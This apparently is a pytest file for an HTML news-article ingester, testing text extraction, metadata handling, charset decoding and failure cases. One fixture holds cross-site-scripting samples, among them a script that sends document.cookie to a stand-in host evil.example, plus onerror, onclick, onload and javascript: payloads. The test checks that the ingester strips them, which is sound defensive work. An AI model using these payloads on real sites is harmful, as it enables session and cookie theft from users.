from datetime import date

import pytest

from onrecord.ingest import ReadOptions
from onrecord.ingest.html import (
    article_from_html,
    article_from_markup,
    decode_html,
    looks_like_html,
    read_html_file,
)
from onrecord.ingest.metadata import Metadata
from onrecord.model import Article, BlockRole, Failure
from tests.ingest_support import PARAGRAPHS, news_page, write

HEAD = (
    '<meta property="og:site_name" content="The Daily Gazette">'
    '<meta name="author" content="Jane Doe">'
    '<meta property="article:published_time" content="2024-05-31T09:00:00Z">'
    '<link rel="canonical" href="https://gazette.example/2024/05/31/transit-plan">'
)
NAVIGATION = "<nav><ul><li><a href='/'>Home</a></li><li><a href='/politics'>Politics</a></li></ul></nav>"
BYLINE = "<p class='byline'>By Jane Doe</p>"
FIGURE = (
    "<figure><img src='bus.jpg'><figcaption>A bus waits at the depot on Thursday. "
    "John Smith/AFP via Getty Images</figcaption></figure>"
)
RELATED = (
    "<aside class='related'><h2>Related stories</h2><ul>"
    "<li><a href='/a'>Bus drivers strike over pay and conditions in the city</a></li></ul></aside>"
    "<div class='related-stories'><h3>More on transit</h3>"
    "<p>Rail fares to rise again next year, says the operator of the regional network.</p></div>"
)
FOOTER = "<footer>Copyright 2024 The Daily Gazette. All rights reserved.</footer>"
FULL_PAGE = news_page(head=HEAD, before=BYLINE + FIGURE, after=RELATED + FOOTER)
FULL_PAGE = FULL_PAGE.replace("<body>", "<body>" + NAVIGATION)


def test_page_gives_main_text_as_paragraphs_and_its_metadata(tmp_path):
    path = write(tmp_path / "transit.html", FULL_PAGE)
    article = read_html_file(path, ReadOptions())
    assert isinstance(article, Article)
    assert article.text == "\n\n".join(PARAGRAPHS)
    assert [b.span.text(article.text) for b in article.blocks] == list(PARAGRAPHS)
    assert {b.role for b in article.blocks} == {BlockRole.BODY}
    assert (article.id, article.origin) == ("transit", str(path))
    assert article.title == "Council backs transit plan"
    assert article.authors == ("Jane Doe",)
    assert article.published == date(2024, 5, 31)
    assert article.outlet == "The Daily Gazette"
    assert article.url == "https://gazette.example/2024/05/31/transit-plan"


@pytest.mark.parametrize(
    "boilerplate",
    ["Home", "Politics", "By Jane", "depot", "Getty", "Related", "Bus drivers", "Rail fares", "Copyright"],
)
def test_navigation_bylines_captions_and_related_stories_stay_out_of_the_text(tmp_path, boilerplate):
    article = read_html_file(write(tmp_path / "transit.html", FULL_PAGE), ReadOptions())
    assert boilerplate not in article.text


def test_page_without_article_text_is_a_failure(tmp_path):
    page = f"<html><head><title>Menu</title></head><body>{NAVIGATION}{FOOTER}</body></html>"
    path = write(tmp_path / "menu.html", page)
    result = read_html_file(path, ReadOptions())
    assert isinstance(result, Failure)
    assert (result.origin, result.reason) == (str(path), "no article text")


HOSTILE = news_page(
    head="<script>location='https://evil.example/?c='+document.cookie</script><style>p{color:red}</style>",
    before=(
        "<script>alert('in body')</script>"
        "<p onclick='steal()'>Hello <img src=x onerror='alert(1)'> world, this is the first paragraph.</p>"
        "<p><a href=\"javascript:alert(2)\">A link</a> inside the second paragraph, which is long enough.</p>"
        "<iframe src='https://evil.example/frame'></iframe><svg onload='alert(3)'><text>svg text</text></svg>"
    ),
)


def test_hostile_html_gives_plain_text_only(tmp_path):
    article = read_html_file(write(tmp_path / "hostile.html", HOSTILE), ReadOptions())
    assert isinstance(article, Article)
    first, second, *_ = article.text.split("\n\n")
    assert first == "Hello world, this is the first paragraph."
    assert second.startswith("A link inside the second paragraph")
    for markup in ("<", ">", "alert", "onerror", "onclick", "javascript", "document.cookie", "color:red"):
        assert markup not in article.text


@pytest.mark.parametrize(
    "data, reason", [(b"", "empty"), (b"\x00\x01\x02<html>", "binary"), (b"  \n\t\n", "no article text")]
)
def test_unusable_file_is_a_failure(tmp_path, data, reason):
    result = read_html_file(write(tmp_path / "page.html", data), ReadOptions())
    assert isinstance(result, Failure) and result.reason == reason


def test_page_over_the_limit_is_too_large(tmp_path):
    path = write(tmp_path / "page.html", FULL_PAGE)
    result = read_html_file(path, ReadOptions(max_bytes=100))
    assert isinstance(result, Failure) and result.reason == "too large"


def test_published_option_wins_over_the_page_date(tmp_path):
    article = read_html_file(write(tmp_path / "p.html", FULL_PAGE), ReadOptions(published=date(2020, 1, 2)))
    assert article.published == date(2020, 1, 2)


def test_undated_page_takes_its_date_from_the_file_name_or_sidecar(tmp_path):
    page = news_page()
    named = read_html_file(write(tmp_path / "x-2016-09-12.html", page), ReadOptions())
    assert named.published == date(2016, 9, 12)
    write(tmp_path / "y.date", "2016-10-01")
    assert read_html_file(write(tmp_path / "y.html", page), ReadOptions()).published == date(2016, 10, 1)


def test_known_metadata_wins_over_the_page_and_the_page_over_the_fallback():
    known = Metadata(title="Given title", url="https://given.example/x")
    fallback = Metadata(published=date(1999, 1, 1), outlet="Fallback outlet", authors=("Nobody",))
    article = article_from_html(news_page(head=HEAD), "a", "origin", known, fallback)
    assert (article.title, article.url) == ("Given title", "https://given.example/x")
    assert (article.published, article.authors) == (date(2024, 5, 31), ("Jane Doe",))
    assert article.outlet == "The Daily Gazette"
    undated = article_from_html(news_page(), "b", "origin", fallback=fallback)
    assert undated.published == date(1999, 1, 1)


@pytest.mark.parametrize(
    "data, charset, expected",
    [
        ("<meta charset='windows-1252'><p>\u201cq\u201d</p>".encode("cp1252"), None, "\u201cq\u201d"),
        ("<p>Na\u00efve caf\u00e9</p>".encode("latin-1"), None, "Na\u00efve caf\u00e9"),
        ("<p>Z\u00fcrich</p>".encode("utf-8"), "utf-8", "Z\u00fcrich"),
        ("<p>Z\u00fcrich</p>".encode("latin-1"), "utf-8", "Z\u00fcrich"),  # a wrong declaration is ignored
        ("<p>\u00e9</p>".encode("utf-8"), "no-such-charset", "\u00e9"),
    ],
    ids=["meta-charset", "undeclared-latin-1", "declared", "declared-wrongly", "unknown-charset"],
)
def test_decode_html(data, charset, expected):
    assert expected in decode_html(data, charset)


@pytest.mark.parametrize(
    "value, expected",
    [
        ("<p>One.</p>", True),
        ("Hello <b>world</b>", True),
        ("<!DOCTYPE html><title>x</title>", True),
        ("Plain text, a < b and c > d.", False),
        ("Use <angle brackets> sparingly.", False),
    ],
)
def test_looks_like_html(value, expected):
    assert looks_like_html(value) is expected


def test_markup_field_goes_through_html_and_plain_text_is_kept_exactly():
    markup = "<p>First paragraph.</p><script>x()</script><p>Second <i>one</i>.</p>"
    fragment = article_from_markup(markup, "f", "o")
    assert fragment.text == "First paragraph.\n\nSecond one."
    plain = "  date 2024-05-31\r\n\r\nA < b, kept exactly.  \n"
    article = article_from_markup(plain, "p", "o", Metadata(title="T"))
    assert (article.text, article.title, article.published) == (plain, "T", date(2024, 5, 31))
